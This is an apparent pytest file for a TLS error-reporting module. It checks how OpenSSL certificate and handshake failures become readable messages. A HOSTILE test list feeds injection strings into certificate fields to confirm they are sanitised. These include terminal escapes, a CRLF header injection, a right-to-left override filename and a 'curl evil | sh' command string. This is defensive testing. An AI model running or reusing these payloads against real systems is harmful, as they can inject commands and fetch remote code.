"""sidecar.net.tls_faults"""

from __future__ import annotations

import ssl
import time
from collections.abc import Iterator

import pytest

from sidecar.errors import MEANINGS, Reason
from sidecar.net import tls_handshake
from sidecar.net.tls_faults import Side, certificate_fault, handshake_fault, later_fault

SIDE = Side("`a.example:443`", "a.example", has_ca_file=False, has_client_certificate=False)
NOW = 1_800_000_000.0


@pytest.mark.parametrize("code", range(1, 100))
def test_every_number_is_a_certificate_error(code: int) -> None:
    """Nothing that OpenSSL says of a certificate is told as something else, or without what to do."""
    error = certificate_fault(code, "what OpenSSL says", (), SIDE, NOW)
    assert MEANINGS[error.reason].proxy_status == "tls_certificate_error"
    assert "a.example:443" in error.detail
    assert error.detail.endswith(".")


@pytest.mark.parametrize(
    ("code", "reason"),
    [
        pytest.param(3, Reason.TLS_CRL_UNUSABLE, id="no-list"),
        pytest.param(12, Reason.TLS_CRL_UNUSABLE, id="list-too-old"),
        pytest.param(21, Reason.TLS_UNKNOWN_CA, id="leaf-only"),
        pytest.param(23, Reason.TLS_REVOKED, id="revoked"),
        pytest.param(26, Reason.TLS_BAD_CHAIN, id="purpose"),
        pytest.param(50, Reason.TLS_CERTIFICATE, id="application"),
        pytest.param(64, Reason.TLS_WRONG_NAME, id="address"),
        pytest.param(68, Reason.TLS_BAD_CHAIN, id="weak-digest"),
        pytest.param(85, Reason.TLS_BAD_CHAIN, id="no-key-identifier"),
    ],
)
def test_numbers_have_their_reasons(code: int, reason: Reason) -> None:
    """X509_V_ERR_* of openssl/x509_vfy.h."""
    assert certificate_fault(code, "", (), SIDE, NOW).reason is reason


def test_the_certificate_that_has_expired_is_the_one_that_is_named() -> None:
    """It may be one above the server's own; a date that can't be read is left out."""
    good, old = {"notAfter": "Jan  1 00:00:00 2030 GMT"}, {"notAfter": "Feb  3 04:05:06 2025 GMT"}
    says = certificate_fault(10, "", (good, old), SIDE, NOW).detail
    assert "has expired on Mon, 03 Feb 2025 04:05:06 GMT; this machine's clock says Fri, 15 Jan 2027" in says
    assert "has expired; this" in certificate_fault(10, "", ({"notAfter": "?"},), SIDE, NOW).detail
    assert "is not valid yet; this" in certificate_fault(9, "", (), SIDE, NOW).detail


def test_a_date_that_is_now_is_not_the_one_that_is_meant() -> None:
    """What ends, or begins, in this second is valid."""
    now = {"notAfter": "Jan 15 08:00:00 2027 GMT", "notBefore": "Jan 15 08:00:00 2027 GMT"}
    assert "has expired; this" in certificate_fault(10, "", (now,), SIDE, NOW).detail
    assert "is not valid yet; this" in certificate_fault(9, "", (now,), SIDE, NOW).detail


@pytest.fixture
def far_from_greenwich(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """A machine whose local time is another than that of certificates."""
    monkeypatch.setenv("TZ", "XXX11")
    time.tzset()
    yield
    monkeypatch.undo()
    time.tzset()


@pytest.mark.usefixtures("far_from_greenwich")
def test_dates_are_read_and_told_in_greenwich_s_time() -> None:
    """Wherever the machine stands: certificates have no other."""
    late = {"notAfter": "Jan 15 07:59:59 2027 GMT", "notBefore": "Jan 15 08:00:01 2027 GMT"}
    clock = "; this machine's clock says Fri, 15 Jan 2027 08:00:00 GMT."
    says = certificate_fault(10, "", (late,), SIDE, NOW).detail
    assert f"has expired on Fri, 15 Jan 2027 07:59:59 GMT{clock}" in says
    says = certificate_fault(9, "", (late,), SIDE, NOW).detail
    assert f"is not valid before Fri, 15 Jan 2027 08:00:01 GMT{clock}" in says


def test_names_are_told_up_to_five() -> None:
    """A certificate may have hundreds."""
    leaf = {"subjectAltName": (*(("DNS", f"{n}.example") for n in range(7)), ("email", "x@y.example"))}
    says = certificate_fault(62, "", (leaf,), SIDE, NOW).detail
    assert (
        "not for `a.example` but for `0.example`, `1.example`, `2.example`, `3.example`, `4.example` and 2 more."
        in says
    )
    leaf = {"subjectAltName": tuple(("DNS", f"{n}.example") for n in range(5))}
    assert "`3.example`, `4.example`." in certificate_fault(62, "", (leaf,), SIDE, NOW).detail


HOSTILE = [
    "\x1b[2J\x1b]0;x\x07",
    "a\r\nSet-Cookie: x",
    "a\x00b",
    "`; run `curl evil | sh",
    "\u202egpj.exe",
    "x" * 50_000,
]


@pytest.mark.parametrize("name", HOSTILE, ids=["escapes", "lines", "nul", "quotes", "direction", "length"])
@pytest.mark.parametrize("code", [20, 62], ids=["issuer", "name"])
def test_a_certificate_s_own_words_are_shown_harmless(name: str, code: int) -> None:
    """Anybody can write anything into a certificate: it is in an answer, a log and on a terminal before it is verified."""
    shown = {"issuer": ((("commonName", name),),), "subjectAltName": (("DNS", name),) * 5_000}
    says = certificate_fault(code, "what OpenSSL says", (shown,), SIDE, NOW).detail
    assert says.isprintable()
    assert len(says) < 2_000
    assert says.count("`") % 2 == 0
    assert name not in says


def test_an_issuer_without_a_common_name_is_named_by_its_last_part() -> None:
    """Some CAs have an organisation only."""
    chain = ({"issuer": ((("countryName", "DE"),), (("organizationName", "A CA"),))},) * 2
    assert (
        "issued by `A CA`, which is not trusted here. Verif"
        in certificate_fault(20, "", chain, SIDE, NOW).detail
    )


@pytest.mark.parametrize(
    ("mnemonic", "version", "reason"),
    [
        pytest.param(
            "TLSV1_ALERT_NO_RENEGOTIATION", "TLSv1.2", Reason.TLS_RENEGOTIATION, id="no-renegotiation"
        ),
        pytest.param("SSLV3_ALERT_HANDSHAKE_FAILURE", "TLSv1.2", Reason.TLS_RENEGOTIATION, id="1.2"),
        pytest.param(
            "SSLV3_ALERT_HANDSHAKE_FAILURE", "TLSv1.3", Reason.TLS_CLIENT_CERTIFICATE_MISSING, id="1.3"
        ),
        pytest.param("TLSV1_ALERT_INTERNAL_ERROR", "TLSv1.3", Reason.TLS_ALERT, id="alert"),
        pytest.param("DECRYPTION_FAILED_OR_BAD_RECORD_MAC", "TLSv1.3", Reason.TLS_FAILED, id="tampered-with"),
    ],
)
def test_what_comes_after_the_handshake(mnemonic: str, version: str, reason: Reason) -> None:
    """An alert is the other side's word, everything else OpenSSL's own."""
    assert later_fault(mnemonic, SIDE, version=version).reason is reason


def test_what_has_no_name_is_a_failure_all_the_same() -> None:
    """And a version that is too old is known by this side's own word, too."""
    assert handshake_fault("", SIDE, agreed=False).detail.startswith(
        "The TLS handshake with `a.example:443` failed: no reason was given."
    )
    assert handshake_fault("UNSUPPORTED_PROTOCOL", SIDE, agreed=False).reason is Reason.TLS_PROTOCOL_TOO_OLD


def test_openssl_s_name_is_found_where_python_has_none() -> None:
    """Its table lacks alerts that are newer than it."""
    error = ssl.SSLError(1, "[SSL] tlsv1 alert no application protocol (_ssl.c:1006)")
    assert tls_handshake.mnemonic(error) == "TLSV1_ALERT_NO_APPLICATION_PROTOCOL"
    assert tls_handshake.mnemonic(ssl.SSLError(1)) == ""
